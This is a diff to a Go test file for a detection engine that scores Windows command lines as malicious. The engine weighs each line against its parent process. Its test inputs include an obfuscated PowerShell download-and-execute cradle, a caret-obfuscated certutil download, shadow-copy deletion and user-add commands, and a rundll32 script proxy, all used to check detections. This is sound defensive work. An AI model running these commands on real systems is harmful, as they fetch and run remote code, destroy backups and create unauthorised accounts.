@@ -3,6 +3,7 @@ package score
 import (
 	"encoding/json"
 	"errors"
+	"math"
 	"slices"
 	"strings"
 	"testing"
@@ -10,6 +11,7 @@ import (
 
 	"scorecmdline/lookups"
 	"scorecmdline/src/config"
+	"scorecmdline/src/event"
 	"scorecmdline/src/model"
 )
 
@@ -20,6 +22,15 @@ func engine(t testing.TB, opts Options) *Engine {
 		t.Fatal(err)
 	}
 	return e
+}
+
+// lineEvent is an event with a command line and a parent (name or path).
+func lineEvent(cmdline, parent []byte) *event.Event {
+	ev := new(event.Event)
+	ev.Set(event.Process, cmdline)
+	ev.SetNameOrPath(event.ParentProcessName, event.ParentProcessPath, parent)
+	ev.Complete()
+	return ev
 }
 
 func names(e *Engine) string {
@@ -100,7 +111,7 @@ func TestScore(t *testing.T) {
 	sc := e.NewScorer()
 
 	long := `powershell.exe -nop -w hidden -c "$m=New-Object System.Threading.Mutex($false,'Global\abc');if($m.WaitOne(0)){$wc=New-Object System.Net.WebClient;$s=$wc.OpenRead('http://10.0.0.5/a.ps1');$sr=New-Object System.IO.StreamReader($s);$c=$sr.ReadToEnd();function Run($x){try{IEX $x}catch{}};Run $c}"`
-	r := sc.Score([]byte(long), []byte("explorer.exe"))
+	r := sc.Score(lineEvent([]byte(long), []byte("explorer.exe")))
 	got := emit(e, r)
 	if got["score"][0] != "8.458906799068355" || !r.ModelAlert || got["risk_score"][0] != "12" || got["rule_count"][0] != "0" {
 		t.Errorf("model alert: %v", got)
@@ -111,12 +122,12 @@ func TestScore(t *testing.T) {
 
 	// The same line, too short for the ESCU gate, scores the same but does not alert.
 	short := "New-Object New-Object New-Object function"
-	r = sc.Score([]byte(short), nil)
+	r = sc.Score(lineEvent([]byte(short), nil))
 	if r.ModelAlert || r.Score <= 0.5 || r.Risk != 0 || r.Alert(0.5) {
 		t.Errorf("short line: score %v alert %v risk %d", r.Score, r.ModelAlert, r.Risk)
 	}
 
-	r = sc.Score([]byte(`cmd.exe /c "c^er^tu^til -urlcache -f http://x/a.exe a.exe"`), []byte(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`))
+	r = sc.Score(lineEvent([]byte(`cmd.exe /c "c^er^tu^til -urlcache -f http://x/a.exe a.exe"`), []byte(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)))
 	got = emit(e, r)
 	if strings.Join(got["rule_hits"], ",") != "certutil_urlcache,suspicious_parent" || got["certutil_abuse"][0] != "1" ||
 		got["suspicious_parent"][0] != "1" || got["shadow_delete"][0] != "0" || got["rule_count"][0] != "2" || !r.Alert(100) {
@@ -130,7 +141,7 @@ func TestScore(t *testing.T) {
 	}
 
 	// Empty command line: nothing is emitted, even with a parent.
-	r = sc.Score(nil, []byte("winword.exe"))
+	r = sc.Score(lineEvent(nil, []byte("winword.exe")))
 	if got := emit(e, r); len(got) != 0 || r.Alert(-100) {
 		t.Errorf("empty line emitted %v", got)
 	}
@@ -139,14 +150,14 @@ func TestScore(t *testing.T) {
 func TestRiskCapped(t *testing.T) {
 	e := engine(t, Options{Model: None, Rules: []string{"sentinel_cmd"}})
 	line := "vssadmin delete shadows /all & wmic shadowcopy delete & bcdedit /set x & net user a b /add & certutil -urlcache x"
-	if r := e.NewScorer().Score([]byte(line), []byte("mshta.exe")); r.Risk != MaxRisk || len(r.Hits) < 5 {
+	if r := e.NewScorer().Score(lineEvent([]byte(line), []byte("mshta.exe"))); r.Risk != MaxRisk || len(r.Hits) < 5 {
 		t.Errorf("risk %d with %d hits, want the cap %d", r.Risk, len(r.Hits), MaxRisk)
 	}
 }
 
 func TestAppendJSON(t *testing.T) {
 	e := engine(t, Defaults())
-	r := e.NewScorer().Score([]byte("net user bob pw /add"), []byte("cmd.exe"))
+	r := e.NewScorer().Score(lineEvent([]byte("net user bob pw /add"), []byte("cmd.exe")))
 	js := append([]byte{'{'}, r.AppendJSON(nil)...)
 	js = append(js, '}')
 	var got map[string]any
@@ -157,7 +168,7 @@ func TestAppendJSON(t *testing.T) {
 		got["rule_hits"].([]any)[0] != "net_user_add" || len(got) != len(e.Fields()) {
 		t.Errorf("JSON %s", js)
 	}
-	if out := e.NewScorer().Score(nil, nil).AppendJSON(nil); len(out) != 0 {
+	if out := e.NewScorer().Score(lineEvent(nil, nil)).AppendJSON(nil); len(out) != 0 {
 		t.Errorf("empty result wrote %s", out)
 	}
 }
@@ -184,7 +195,7 @@ func TestCustomPack(t *testing.T) {
 	if !strings.Contains(names(e), "script_proxy") {
 		t.Errorf("custom flag missing: %s", names(e))
 	}
-	r := e.NewScorer().Score([]byte(`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`), nil)
+	r := e.NewScorer().Score(lineEvent([]byte(`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`), nil))
 	if got := emit(e, r); got["script_proxy"][0] != "1" || got["risk_score"][0] != "70" {
 		t.Errorf("custom pack: %v", got)
 	}
@@ -199,10 +210,10 @@ const benchLine = `C:\Windows\System32\cmd.exe /c "certutil.exe -urlcache -split
 
 func TestScoreAllocs(t *testing.T) {
 	sc := engine(t, Defaults()).NewScorer()
-	line, parent := []byte(benchLine), []byte("winword.exe")
+	ev := lineEvent([]byte(benchLine), []byte("winword.exe"))
 	var scratch []byte
-	sc.Score(line, parent).Emit(nopSink{}, scratch)
-	if n := testing.AllocsPerRun(100, func() { scratch = sc.Score(line, parent).Emit(nopSink{}, scratch) }); n != 0 {
+	sc.Score(ev).Emit(nopSink{}, scratch)
+	if n := testing.AllocsPerRun(100, func() { scratch = sc.Score(ev).Emit(nopSink{}, scratch) }); n != 0 {
 		t.Errorf("Score+Emit allocates %v times", n)
 	}
 }
@@ -217,12 +228,12 @@ func BenchmarkScore(b *testing.B) {
 	for name, line := range map[string]string{"benign": benignLine, "hits": benchLine} {
 		b.Run(name, func(b *testing.B) {
 			sc := engine(b, Defaults()).NewScorer()
-			line, parent := []byte(line), []byte("explorer.exe")
+			ev := lineEvent([]byte(line), []byte("explorer.exe"))
 			var scratch []byte
 			b.SetBytes(int64(len(line)))
 			b.ReportAllocs()
 			for b.Loop() {
-				scratch = sc.Score(line, parent).Emit(nopSink{}, scratch)
+				scratch = sc.Score(ev).Emit(nopSink{}, scratch)
 			}
 			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
 		})
@@ -233,7 +244,7 @@ func BenchmarkScore(b *testing.B) {
 // including for values that collide in the cache.
 func TestFloatText(t *testing.T) {
 	var c floatText
-	vals := []float64{-1.2124304031951825, 8.458906799068355, 0, 1e-05, -0.0, 1.5e16, 123456.125}
+	vals := []float64{-1.2124304031951825, 8.458906799068355, 0, 1e-05, math.Copysign(0, -1), 1.5e16, 123456.125}
 	for i := range 5000 {
 		vals = append(vals, float64(i)*0.1-250, 1/float64(i+1))
 	}
